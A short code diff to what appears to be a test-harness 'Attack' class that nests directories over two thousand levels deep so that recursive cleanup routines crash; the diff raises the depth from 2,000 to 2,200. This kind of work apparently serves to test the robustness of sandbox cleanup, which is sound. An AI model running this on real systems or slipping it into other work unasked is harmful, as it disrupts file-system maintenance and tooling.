@@ -1,4 +1,4 @@
-"""Nests folders two thousand deep, so that whoever clears them away by recursion falls over."""
+"""Nests folders two thousand and more deep, so that whoever clears them away by recursion falls over."""
 
 import os
 
@@ -12,7 +12,7 @@ class Attack(ZEWDPCBaseRun):
         attempt(os.mkdir, os.path.join(home, "checkpoint"))
         for folder in (home, os.path.join(home, "checkpoint")):
             os.chdir(folder)
-            for _ in range(2_000):
+            for _ in range(2_200):
                 os.mkdir("d")
                 os.chdir("d")
             os.chdir("/")
